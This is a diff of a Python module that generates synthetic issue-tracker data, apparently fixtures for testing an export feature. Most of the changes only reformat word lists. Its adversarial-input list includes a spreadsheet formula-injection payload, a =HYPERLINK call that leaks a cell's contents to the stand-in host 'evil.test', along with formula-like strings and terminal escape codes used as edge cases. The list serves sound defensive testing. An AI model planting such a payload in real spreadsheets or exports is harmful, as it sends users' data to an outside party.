@@ -9,15 +9,60 @@ from __future__ import annotations
 import random
 from typing import Any
 
-VERBS = ("Add", "Fix", "Refactor", "Remove", "Improve", "Migrate", "Document", "Test",
-         "Investigate", "Speed up", "Localise", "Harden", "Split", "Instrument")
-THINGS = ("login form", "checkout flow", "search results", "order history", "push tokens",
-          "billing webhook", "invoice PDF", "onboarding tour", "rate limiter", "audit log",
-          "CSV export", "profile page", "session cache", "feature flags", "retry policy",
-          "dark mode", "password reset", "API pagination", "price rounding", "image upload")
-CONTEXTS = ("on Android", "on iOS", "for EU customers", "in Safari", "behind the proxy",
-            "after timeout", "for admins", "in staging", "under load", "for new users", "",
-            "", "", "")
+VERBS = (
+    "Add",
+    "Fix",
+    "Refactor",
+    "Remove",
+    "Improve",
+    "Migrate",
+    "Document",
+    "Test",
+    "Investigate",
+    "Speed up",
+    "Localise",
+    "Harden",
+    "Split",
+    "Instrument",
+)
+THINGS = (
+    "login form",
+    "checkout flow",
+    "search results",
+    "order history",
+    "push tokens",
+    "billing webhook",
+    "invoice PDF",
+    "onboarding tour",
+    "rate limiter",
+    "audit log",
+    "CSV export",
+    "profile page",
+    "session cache",
+    "feature flags",
+    "retry policy",
+    "dark mode",
+    "password reset",
+    "API pagination",
+    "price rounding",
+    "image upload",
+)
+CONTEXTS = (
+    "on Android",
+    "on iOS",
+    "for EU customers",
+    "in Safari",
+    "behind the proxy",
+    "after timeout",
+    "for admins",
+    "in staging",
+    "under load",
+    "for new users",
+    "",
+    "",
+    "",
+    "",
+)
 
 ADVERSARIAL: tuple[str, ...] = (
     '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
@@ -25,7 +70,7 @@ ADVERSARIAL: tuple[str, ...] = (
     "-2+3 rounding error in totals",
     "@SUM(A1:A9) shows up in the export",
     "Control\x07chars\x1b[31m and \x0bvertical tab in a title",
-    'Quote "double" and \'single\' and `backtick`',
+    "Quote \"double\" and 'single' and `backtick`",
     'JQL-special: project = "X" OR key ~ "*" AND (a|b) [c] {d} \\ % & ! ?',
     "🚀 Launch checklist ✅ for release 🎉",
     "مرحبا — RTL checkout copy (الدفع)",
@@ -37,9 +82,35 @@ ADVERSARIAL: tuple[str, ...] = (
     "   leading and trailing spaces   ",
 )
 
-WORDS = ("the", "service", "returns", "a", "stale", "value", "when", "users", "retry", "after",
-         "network", "loss", "we", "should", "cache", "per", "tenant", "and", "log", "it",
-         "acceptance", "criteria", "include", "metrics", "dashboard", "alerts", "latency")
+WORDS = (
+    "the",
+    "service",
+    "returns",
+    "a",
+    "stale",
+    "value",
+    "when",
+    "users",
+    "retry",
+    "after",
+    "network",
+    "loss",
+    "we",
+    "should",
+    "cache",
+    "per",
+    "tenant",
+    "and",
+    "log",
+    "it",
+    "acceptance",
+    "criteria",
+    "include",
+    "metrics",
+    "dashboard",
+    "alerts",
+    "latency",
+)
 
 
 def summary(rng: random.Random) -> str:
@@ -51,8 +122,10 @@ def summary(rng: random.Random) -> str:
 
 def epic_summary(rng: random.Random, number: int) -> str:
     """A plausible epic name."""
-    return f"{rng.choice(('Launch', 'Rebuild', 'Scale', 'Modernise', 'Ship'))} " \
-           f"{rng.choice(THINGS)} (E{number})"
+    return (
+        f"{rng.choice(('Launch', 'Rebuild', 'Scale', 'Modernise', 'Ship'))} "
+        f"{rng.choice(THINGS)} (E{number})"
+    )
 
 
 def _rng(seed: int, issue_id: int, salt: int) -> random.Random:
@@ -74,8 +147,9 @@ def description(seed: int, issue_id: int) -> str | None:
     return "\n\n".join(out)
 
 
-def comments(seed: int, issue_id: int, created: int, updated: int,
-             authors: list[int]) -> list[tuple[int, int, str]]:
+def comments(
+    seed: int, issue_id: int, created: int, updated: int, authors: list[int]
+) -> list[tuple[int, int, str]]:
     """0–2 comments as (epoch ms, author index, text), within the issue's lifetime."""
     rng = _rng(seed, issue_id, 2)
     count = rng.choice((0, 0, 1, 2))
